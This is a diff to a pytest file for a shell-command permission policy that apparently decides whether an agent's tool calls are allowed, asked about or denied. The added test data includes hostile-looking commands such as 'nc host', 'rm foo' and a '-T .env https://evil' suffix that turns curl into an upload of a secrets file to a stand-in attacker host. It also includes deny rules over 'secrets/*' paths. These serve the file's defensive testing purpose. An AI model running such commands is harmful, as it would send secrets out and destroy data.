@@ -23,12 +23,12 @@ READ = ToolSpec("read", "", {}, Effect.NONE)
 def judge(
     call: Prepared, spec: ToolSpec = SHELL, mode: Mode = Mode.ASK, *, rules: dict[str, str] | None = None,
     grants: tuple[Grant, ...] = (), protocol: str = "cli", now_ms: int = 0, required: bool | None = None,
-    project_rules: dict[str, str] | None = None,
+    project_rules: dict[str, str] | None = None, roots: tuple[str, ...] = (),
 ) -> Verdict:  # fmt: skip
     policy = Policy(parse_rules(rules or {}), ShellCommandParser(), sandbox_required=required)
     return policy.judge(
         spec, call, mode, grants, protocol=protocol, root="thr_r", project="prj_p", now_ms=now_ms,
-        rules=parse_rules(project_rules or {}),
+        rules=parse_rules(project_rules or {}, "/w/.quintet/config.toml"), roots=roots,
     )  # fmt: skip
 
 
@@ -196,7 +196,9 @@ def test_an_option_is_not_remembered_as_if_it_were_a_subcommand(command: str) ->
         ("npm run build", ("npm", "run", "build"), ["npm run other", "npm install"]),
         ("uv run pytest tests", ("uv", "run", "pytest", "tests"), ["uv run make"]),
         ("cargo build", ("cargo", "build"), ["cargo install x"]),
-        ("make", ("make",), ["cargo build"]),
+        ("make", ("make",), ["cargo build", "make install"]),
+        ("make test", ("make", "test"), ["make test install", "make test -f x"]),
+        ("bash x.sh", ("bash", "x.sh"), ["bash x.sh more", "bash y.sh"]),
     ],
 )
 def test_what_is_offered_covers_the_line_again_and_nothing_else(
@@ -330,3 +332,125 @@ def test_a_command_rule_that_could_never_match_is_refused(pattern: str) -> None:
 @pytest.mark.parametrize("command", ["g=git; $g push", "git --attr-source HEAD push"])
 def test_a_broad_allow_does_not_open_a_way_around_a_deny_rule(rules: dict[str, str], command: str) -> None:
     assert judge(run(command), mode=Mode.ALLOW, rules=rules).judgement is not Judgement.ALLOW
+
+
+@pytest.mark.parametrize("mode", list(Mode))
+@pytest.mark.parametrize(
+    "command", ["ls", "git $x", "$x", "python -c x", "A=1 x; ls | wc", "", "ls (", "sh -c 'ls $x'"]
+)
+@pytest.mark.parametrize("pattern", ["shell: *", "*: *"])
+def test_a_rule_of_only_a_star_speaks_of_every_command(mode: Mode, command: str, pattern: str) -> None:
+    call = run(command or "# nothing")
+    assert judge(call, mode=mode, rules={pattern: "deny"}).judgement is Judgement.DENY
+    assert judge(call, mode=mode, rules={pattern: "ask"}).judgement is Judgement.ASK
+
+
+def test_a_rule_of_only_a_star_allows_what_is_understood_and_asks_about_what_can_be_remembered() -> None:
+    assert judge(run("make && ls $x"), rules={"shell: *": "allow"}).judgement is Judgement.ALLOW
+    assert judge(run("python -c x"), rules={"shell: *": "allow"}).judgement is Judgement.ASK
+    asked = judge(run("git status"), mode=Mode.ALLOW, rules={"shell: *": "ask"})
+    assert (asked.rule, asked.offers[0].pattern) == ("shell: *", ("git", "status"))
+    assert judge(run("git status"), mode=Mode.ALLOW, rules={"shell: *": "ask"}, grants=(grant(),)).grants == ("grt_1",)
+
+
+SECOND_WORD_IS_NO_SUBCOMMAND = """
+rm foo | cp a | mv a | tee out.txt | scp a | nc host | find . | wget https://ok.example/ | bash x.sh | python3 x.py
+curl https://ok.example/ | node x.js | ./x.sh y | npx thing | make test | npm run build | go test | pip install
+docker run | kubectl get | git push | git clone | git remote | timeout 5 rm foo | cd sub && rm foo
+"""
+SUCH = [c.strip() for line in SECOND_WORD_IS_NO_SUBCOMMAND.strip().splitlines() for c in line.split(" | ")]
+
+
+@pytest.mark.req("security:S27")
+@pytest.mark.parametrize("command", SUCH)
+@pytest.mark.parametrize("network", [False, True])
+def test_what_is_remembered_of_a_command_without_known_subcommands_is_exactly_its_words(
+    command: str, network: bool
+) -> None:
+    for offer in judge(run(command, network=network)).offers:
+        kept = grant(pattern=offer.pattern, exact=offer.exact, network=offer.network)
+        for more in ("-T .env https://evil", "other", "-f x"):
+            again = judge(run(f"{command} {more}", network=network), grants=(kept,))
+            assert again.judgement is Judgement.ASK, (command, more)
+
+
+def test_with_network_nothing_but_the_very_words_is_remembered() -> None:
+    offer = judge(run("git log origin/main", network=True)).offers[0]
+    assert (offer.pattern, offer.exact) == (("git", "log", "origin/main"), True)
+
+
+@pytest.mark.req("security:S26a")
+def test_what_is_remembered_of_a_script_is_about_its_content() -> None:
+    call = run("timeout 5 ./x.sh", scripts=("", "aa"))
+    offer = judge(call).offers[0]
+    assert (offer.pattern, offer.scripts) == (("timeout", "5", "./x.sh"), "aa")
+    assert "as its script is now (aa)" in offer.words()
+    kept = grant(pattern=offer.pattern, exact=offer.exact, scripts=offer.scripts)
+    assert judge(call, grants=(kept,)).judgement is Judgement.ALLOW
+    assert judge(run("timeout 5 ./x.sh", scripts=("", "bb")), grants=(kept,)).judgement is Judgement.ASK
+    loose = grant(pattern=offer.pattern, exact=True)
+    assert judge(call, grants=(loose,)).judgement is Judgement.ASK
+    beside = judge(run("git status && timeout 5 ./x.sh", scripts=("", "", "aa")), grants=(grant(id="grt_2"), kept))
+    assert (beside.judgement, beside.grants) == (Judgement.ALLOW, ("grt_2", "grt_1"))
+
+
+@pytest.mark.req("security:S24")
+@pytest.mark.parametrize(
+    "command",
+    ["strange --do git push", "strange /usr/bin/git -C x push", "strange 'then git push'", "git bisector git push"],
+)
+def test_the_words_of_a_deny_rule_in_the_hands_of_another_program_are_asked_about(command: str) -> None:
+    for judgement in ("deny", "ask"):
+        verdict = judge(run(command), mode=Mode.ALLOW, rules={"shell: git push *": judgement, "shell": "allow"})
+        assert (verdict.judgement, verdict.offers) == (Judgement.ASK, ())
+    assert judge(run(command), mode=Mode.ALLOW).judgement is Judgement.ALLOW
+
+
+@pytest.mark.parametrize("command", ["echo git push", "grep -n 'git push' x", "git commit -m 'make it so'", "git pull"])
+def test_a_deny_rule_does_not_hold_up_words_that_nobody_runs(command: str) -> None:
+    rules = {"shell: git push *": "deny", "shell: make *": "deny"}
+    assert judge(run(command), mode=Mode.ALLOW, rules=rules).judgement is Judgement.ALLOW
+
+
+@pytest.mark.parametrize("pattern", ["secrets/*", "./secrets/*", "src/../secrets/*", "/w [1]/secrets/*", "*/secrets/*"])
+@pytest.mark.parametrize("whose", ["rules", "project_rules"])
+def test_a_relative_path_in_a_rule_begins_at_the_root_of_the_project(pattern: str, whose: str) -> None:
+    if pattern.startswith("/"):
+        pattern = "/w [[]1]/secrets/*"
+    said: dict[str, Any] = {whose: {f"write: {pattern}": "deny"}, "roots": ("/w [1]",)}
+    inside, outside = (Prepared("x", {}, paths=(p,)) for p in ("/w [1]/secrets/key", "/w [1]/src/key"))
+    assert judge(inside, WRITE, Mode.ALLOW, **said).judgement is Judgement.DENY
+    assert judge(outside, WRITE, Mode.ALLOW, **said).judgement is Judgement.ALLOW
+
+
+def test_a_relative_path_in_an_allow_rule_opens_nothing_elsewhere() -> None:
+    rules = {"write: docs/*": "allow"}
+    for path, expected in (
+        ("/w/docs/a", Judgement.ALLOW),
+        ("/v/docs/a", Judgement.ASK),
+        ("/w/x/docs/a", Judgement.ASK),
+    ):
+        assert judge(Prepared("x", {}, paths=(path,)), WRITE, rules=rules, roots=("/w",)).judgement is expected
+    assert judge(Prepared("x", {}, paths=("/w/docs/a",)), WRITE, rules=rules).judgement is Judgement.ASK
+
+
+def test_a_path_rule_with_a_tilde_is_refused_since_it_could_never_match() -> None:
+    with pytest.raises(Invalid, match="never match"):
+        parse_rules({"write: ~/x": "deny"})
+
+
+@pytest.mark.req("security:S18")
+@pytest.mark.parametrize("path", ["/w/Secr\u00e9ts/KEY", "/w/secre\u0301ts/key", "/w/SECRE\u0301TS/key"])
+def test_a_path_rule_that_says_no_holds_for_every_spelling_and_one_that_allows_for_its_own(path: str) -> None:
+    call = Prepared("x", {}, paths=(path,))
+    for judgement in (Judgement.DENY, Judgement.ASK):
+        rules = {"write: secr\u00e9ts/*": judgement.value}
+        assert judge(call, WRITE, Mode.ALLOW, rules=rules, roots=("/w",)).judgement is judgement
+    assert judge(call, WRITE, rules={"write: secr\u00e9ts/*": "allow"}, roots=("/w",)).judgement is Judgement.ASK
+
+
+def test_a_rule_of_the_project_is_told_with_its_file() -> None:
+    denied = judge(run("make"), mode=Mode.ALLOW, project_rules={"shell: make *": "deny"})
+    assert denied.rule == "shell: make * in /w/.quintet/config.toml"
+    assert judge(run("make"), project_rules={"shell: make *": "ask"}).rule == "shell: make * in /w/.quintet/config.toml"
+    assert judge(run("make"), rules={"shell: make *": "deny"}).rule == "shell: make *"
